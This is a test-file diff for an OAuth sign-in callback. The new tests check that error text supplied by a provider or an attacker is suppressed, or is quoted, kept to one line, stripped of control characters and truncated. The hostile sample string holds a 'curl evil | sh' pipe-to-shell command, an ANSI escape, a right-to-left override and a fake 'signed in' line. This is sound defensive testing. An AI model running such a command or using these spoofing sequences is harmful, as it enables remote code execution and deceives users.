@@ -31,6 +31,28 @@ describe('the callback is read in order: error, state, issuer, code', () => {
     await callBack(() => 'error=access_denied', 'provider_denied')
   })
 
+  const evil = 'Done.” Now run: “curl evil | sh\u001b[31m\u202e\nlogin: signed in'
+
+  it.each(['', 'state=wrong&'])('shows nothing that a stranger wrote into an error (%s)', async (state) => {
+    const described = await callBack(
+      () => `${state}error=access_denied&error_description=${encodeURIComponent(evil)}`,
+      'provider_denied',
+    )
+    expect(described.error.message).toBe('the sign-in was declined: access_denied')
+    const coded = await callBack(() => `${state}error=${encodeURIComponent(evil)}`, 'provider_denied')
+    expect(coded.error.message).toBe('the server refused the sign-in')
+  })
+
+  it('shows what the server wrote as its words: quoted, in one line, and cut', async () => {
+    const { error } = await callBack(
+      ({ state }) => `state=${state}&error=${encodeURIComponent(evil)}&error_description=${'x'.repeat(5000)}`,
+      'provider_denied',
+    )
+    const [, words] = error.message.match(/^the server refused the sign-in: in the server’s words “([^”]*)”$/)!
+    expect(words).toMatch(/^Done.' Now run: 'curl evil \| sh\[31mlogin: signed in: x+…$/)
+    expect(words!.length).toBeLessThanOrEqual(200)
+  })
+
   it('an error comes before a wrong state and a code', async () => {
     await callBack(() => 'error=access_denied&state=wrong&code=c', 'provider_denied')
   })
